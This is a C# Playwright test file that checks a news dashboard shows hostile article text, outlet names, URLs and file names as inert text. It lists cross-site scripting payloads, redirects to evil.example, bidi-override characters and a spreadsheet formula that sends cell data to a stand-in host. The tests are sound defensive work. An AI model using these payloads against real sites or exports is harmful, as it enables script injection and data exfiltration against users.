using Microsoft.Playwright;
using NewsDashboard.EndToEnd.Tests.Support;
using static Microsoft.Playwright.Assertions;

namespace NewsDashboard.EndToEnd.Tests.Pages;

/// <summary>P9 and W1: whatever an article, its outlet, its address or its file's name holds, a reader sees it as text.</summary>
public sealed class HostileTextTests(SharedBrowser browser, EmptyDashboard dashboard) : BrowserStory(browser), IClassFixture<EmptyDashboard>
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"here\")";

    /// <summary>Articles enough for a mean, so that the charts of tone name the outlet.</summary>
    private const int Harmless = 6;

    private static readonly string[] Strings =
    [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(2)>",
        "'><svg/onload=alert(3)>",
        "<svg><animate onbegin=alert(4) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(5)>",
        "<iframe srcdoc='<script>alert(6)</script>'></iframe>",
        "<form><button formaction=javascript:alert(7)>press</button></form>",
        "<base href=http://evil.example/>",
        "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
        "<a href=javascript:alert(8)>here</a>",
        "</title></textarea></style><b onmouseover=alert(9)>bold",
        "&lt;img src=x onerror=alert(10)&gt; &amp;amp; <!-- --!> ]]>",
        "{{constructor.constructor('alert(11)')()}} ${alert(12)} @(1+1)",
        "<style>@import 'http://evil.example/'; * { display: none }</style>",
        "%{x} <br>%{customdata} <a href=\"http://evil.example/\">chart</a>",
        Formula,
    ];

    /// <summary>What must not exist in the page, because only a string that became markup could have made it.</summary>
    private const string Traps =
        "[onerror], [onload], [onbegin], [onmouseover], [formaction], [srcdoc], iframe, math, animate, body base, body meta, main script, main style, "
        + "a[href^='javascript:' i], [href^='http://evil.example'], [src^='http://evil.example']";

    protected override Uri Server => dashboard.Address;

    [Fact]
    public async Task P9_W1_every_string_is_text_on_every_page_and_nothing_runs()
    {
        var page = await OpenAsync("sources");
        await UploadAsync(page);
        await ShowsTextAsync(page, "<img src=x onerror=alert(20)>.jsonl");
        await page.GetByTitle("Show what was rejected and why").First.ClickAsync();
        await ShowsTextAsync(page, "<script>alert(21)</script>");
        await IsHarmlessAsync(page);

        foreach (var place in Place.Filtered)
        {
            await page.ShowAsync(place.Path);
            await IsHarmlessAsync(page);
            foreach (var title in await page.ChartTitlesAsync())
            {
                await HoverAllAsync(page, page.Chart(title));
                await page.Chart(title).ChooseInMenuAsync("Show as table");
                await IsHarmlessAsync(page);
            }
        }

        await page.ShowAsync("articles?until=2024-06-30");
        var articles = await AddressesAsync(page.Locator(".article-list .article-title"));
        Assert.Equal(Strings.Length + Harmless, articles.Count);
        foreach (var text in Strings)
            await Expect(page.Locator(".article-list").GetByText(text, new() { Exact = false }).First).ToBeVisibleAsync();
        Assert.Equal(Strings, await ReadEachAsync(page, articles, ".reader"));

        await page.ShowAsync("meetings");
        var meetings = await AddressesAsync(page.Locator(".meeting-table tbody a"));
        Assert.NotEmpty(await ReadEachAsync(page, meetings, ".report"));
    }

    [Fact]
    public async Task P9_W1_an_outlets_name_is_text_in_the_filter_in_charts_and_in_exports()
    {
        var page = await OpenAsync("sources");
        await UploadAsync(page);
        await page.ShowAsync("sentiment");
        await page.FilterBar().GetByRole(AriaRole.Button, new() { Name = "Outlets", Exact = true }).ClickAsync();
        await page.GetByRole(AriaRole.Checkbox, new() { Name = Strings[1] }).ClickAsync();
        await Expect(page.Chip(Strings[1])).ToBeVisibleAsync();
        await page.Keyboard.PressAsync("Escape");
        await page.SettledAsync();

        var chart = page.Chart("Tone of outlets");
        await Expect(chart.Locator(".main-svg").First).ToContainTextAsync("<img src=x");
        await HoverAllAsync(page, chart);
        await IsHarmlessAsync(page);
        foreach (var format in (string[])["PNG", "SVG"])
            await chart.SaveAsync($"Save as {format}");
        await IsHarmlessAsync(page);
    }

    [Fact]
    public async Task W7_a_cell_that_begins_like_a_formula_is_text_in_the_exported_file()
    {
        var page = await OpenAsync("sources");
        await UploadAsync(page);
        using var client = new HttpClient { BaseAddress = Server };

        var csv = CsvFile.Parse(await client.GetByteArrayAsync("api/articles.csv", TestContext.Current.CancellationToken));

        Assert.Contains(csv.Rows, row => row.Any(cell => cell.StartsWith("'=HYPERLINK", StringComparison.Ordinal)));
        Assert.DoesNotContain(csv.Rows, row => row.Any(cell => cell.Length > 0 && "=+@\t".Contains(cell[0], StringComparison.Ordinal)));
    }

    [Fact]
    public async Task P9_characters_that_turn_a_line_round_or_cannot_be_seen_do_not_reach_the_page()
    {
        const string Turned = "Bettong \u202Egpj.exe\u202C, \u2066isolated\u2069, zero\u200Bwidth\uFEFF, joined\u2060up";
        var page = await OpenAsync("sources");
        await UploadAsync(page, new ArticleLines().Add(Turned, $"Delegates said: {Turned}.", new DateOnly(2024, 7, 1), Turned).As("turned.jsonl"), "1 added");

        await page.ShowAsync("articles?q=bettong");
        await page.Locator(".article-list .article-title").ClickAsync();

        await Expect(page.Locator(".reader-text")).ToContainTextAsync("Bettong gpj.exe, isolated, zerowidth, joinedup");
        Assert.DoesNotContain(await page.ContentAsync(), c => c is >= '\u202A' and <= '\u202E' or >= '\u2066' and <= '\u2069' or '\u200B' or '\u2060' or '\uFEFF');
    }

    /// <summary>Uploads an article a week for each string, which stands in all that the article has. Known ones are not added again.</summary>
    private static async Task UploadAsync(IPage page)
    {
        var file = new ArticleLines();
        foreach (var (text, index) in Strings.Select((text, index) => (text, index)))
        {
            var monday = new DateOnly(2024, 1, 1).AddDays(7 * index);
            file.Add(
                text,
                $"China's President Xi Jinping met Egypt's President {text} Abdel Fattah al-Sisi in Beijing on Monday. "
                + $"French Foreign Minister Jean {text} Dupont met German Chancellor Olaf Scholz in {text} Berlin on Sunday, {text} officials said. {text}",
                monday,
                index == 0 ? Strings[0] : Strings[1 + (index % 2)],
                index == 9 ? "javascript:alert(30)" : $"https://www.example.com/{index}?q={text}");
        }

        for (var number = 0; number < Harmless; number++)
            file.Add($"Fair number {number}", $"The great fair of France opened in splendour for the {number}th time, to wide praise.", new DateOnly(2024, 2, 1).AddDays(number), Strings[1]);
        file.AddLine("""{"published": "<script>alert(21)</script>", "text": "<img src=x onerror=alert(22)>"}""");
        await UploadAsync(page, file.As("<img src=x onerror=alert(20)>.jsonl"), "1 rejected");
    }

    private static async Task UploadAsync(IPage page, FilePayload file, string result)
    {
        await page.Locator("#upload-files").SetInputFilesAsync(file);
        await Expect(page.GetByRole(AriaRole.Region, new() { Name = "Upload files" }).GetByRole(AriaRole.Status)).ToContainTextAsync(result);
    }

    /// <summary>Opens each, and tells which of the strings were shown there as they are.</summary>
    private static async Task<IReadOnlyList<string>> ReadEachAsync(IPage page, IReadOnlyList<string> addresses, string where)
    {
        var texts = new List<string>();
        foreach (var address in addresses)
        {
            await page.ShowAsync(address);
            texts.Add(await page.Locator(where).First.InnerTextAsync());
            await IsHarmlessAsync(page);
        }

        return [.. Strings.Where(wanted => texts.Any(text => text.Contains(wanted, StringComparison.Ordinal)))];
    }

    private static async Task IsHarmlessAsync(IPage page) => await Expect(page.Locator(Traps)).ToHaveCountAsync(0);

    private static Task ShowsTextAsync(IPage page, string text) => Expect(page.Locator("main").GetByText(text, new() { Exact = false }).First).ToBeVisibleAsync();

    private static async Task<IReadOnlyList<string>> AddressesAsync(ILocator links) => await links.EvaluateAllAsync<string[]>("links => links.map(link => link.href)");

    /// <summary>Moves the pointer over every mark, so that every hover box is drawn.</summary>
    private static async Task HoverAllAsync(IPage page, ILocator chart)
    {
        foreach (var mark in await chart.Locator(".point path, path.point").AllAsync())
        {
            if (await mark.BoundingBoxAsync() is { } box)
                await page.Mouse.MoveAsync(box.X + (box.Width / 2), box.Y + (box.Height / 2));
        }
    }
}
